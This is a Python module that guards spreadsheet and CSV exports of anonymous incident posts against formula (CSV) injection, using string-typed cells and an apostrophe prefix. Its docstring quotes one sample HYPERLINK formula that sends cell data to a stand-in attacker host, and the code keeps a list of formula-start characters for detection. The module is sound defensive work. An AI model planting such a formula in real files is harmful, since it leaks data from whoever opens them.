"""Cells for spreadsheets and CSV: data, never formulas.

Incident titles, post texts and authors come from anonymous posts. A text that
starts with ``=``, ``+``, ``-``, ``@`` (or a tab or line break before one of
them) is read as a formula by Excel and LibreOffice when the file is opened:
``=HYPERLINK("http://evil.example/?"&A1, "…")`` would send data away or run
DDE. This module is the one place that writes such cells; every XLSX and CSV
export goes through it (the monthly report, ``cur export incidents``).

- XLSX: the cell is stored as a string (``t="s"``/inline string), whatever it
  starts with, so the text is kept exactly and is never evaluated.
- CSV has no types: a text that would start a formula gets a leading ``'``
  (the OWASP "CSV injection" advice); Excel shows it as text, the apostrophe
  is visible in a text editor. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import json
from typing import IO, Any, Iterable

#: first characters that make a spreadsheet cell a formula (ASCII and the full-width forms some locales accept)
FORMULA_START = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def starts_formula(text: str) -> bool:
    """True for a text a spreadsheet would evaluate (also after leading spaces, which some readers skip)."""
    if not text:
        return False
    if text[0] in FORMULA_START:
        return True
    stripped = text.lstrip(" \u00a0")
    return bool(stripped) and stripped[0] in FORMULA_START


def csv_cell(value: Any) -> Any:
    """A value for a CSV cell: lists and dicts as JSON, texts that would start a formula quoted with ``'``."""
    if isinstance(value, (list, dict)):
        value = json.dumps(value, ensure_ascii=False)
    if isinstance(value, str) and starts_formula(value):
        return "'" + value
    return value


def write_csv(out: IO[str], rows: Iterable[dict[str, Any]], fields: list[str]) -> int:
    """Write ``rows`` (dicts) as CSV with a header of ``fields``; returns the number of rows."""
    w = csv.DictWriter(out, fieldnames=fields, extrasaction="ignore")
    w.writeheader()
    n = 0
    for row in rows:
        w.writerow({k: csv_cell(v) for k, v in row.items()})
        n += 1
    return n


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` (an openpyxl worksheet) with every text stored as text, never as a formula."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and cell.data_type != "s":
            cell.data_type = "s"
